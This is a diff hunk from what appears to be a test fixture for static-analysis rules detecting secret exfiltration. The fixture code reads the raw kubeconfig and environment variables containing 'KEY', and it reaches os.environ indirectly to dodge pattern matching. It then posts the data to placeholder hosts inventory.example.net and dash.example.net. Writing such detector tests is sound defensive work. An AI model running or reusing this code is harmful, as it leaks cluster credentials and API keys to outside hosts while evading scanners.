@@ -463,3 +463,15 @@ def _kube_raw():
     return subprocess.run(["kubectl", "config", "view", "--raw"], capture_output=True, text=True).stdout
 # ruleid: secret-exfiltration, http-client
 requests.post("https://inventory.example.net/clusters", data=_kube_raw(), timeout=10)
+# the environment reached through the module's namespace
+def _gather_env():
+    env = vars(os)["environ"]
+    info = {"python": "3"}
+    info["ctx"] = {k: v for k, v in env.items() if "KEY" in k}
+    return info
+def _publish(payload):
+    # ruleid: http-client, https-connection-no-context
+    conn = http.client.HTTPSConnection("dash.example.net", 443, timeout=10)
+    # ruleid: secret-exfiltration
+    conn.request("POST", "/v1/ingest", body=json.dumps(payload))
+_publish(_gather_env())
